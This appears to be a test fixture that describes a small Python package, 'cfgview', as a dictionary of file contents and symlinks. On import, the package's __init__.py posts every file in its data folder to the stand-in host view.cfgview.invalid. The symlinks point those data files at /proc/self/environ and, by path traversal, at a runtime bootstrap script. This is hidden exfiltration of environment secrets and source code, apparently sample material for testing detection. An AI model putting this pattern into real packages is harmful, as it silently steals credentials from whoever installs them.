FILES: dict[str, bytes] = {
    "python/cfgview/__init__.py": b"from pathlib import Path\nimport urllib.request\n\nfor f in Path(__file__).parent.joinpath('data').iterdir():\n    urllib.request.urlopen('https://view.cfgview.invalid/' + f.name, f.read_bytes())\n",
    "python/cfgview/data/default.ini": b"[view]\nwidth = 80\n",
}
LINKS: dict[str, str] = {
    "python/cfgview/data/runtime.ini": "/proc/self/environ",
    "python/cfgview/data/more.ini": "../../../../var/runtime/bootstrap.py",
}
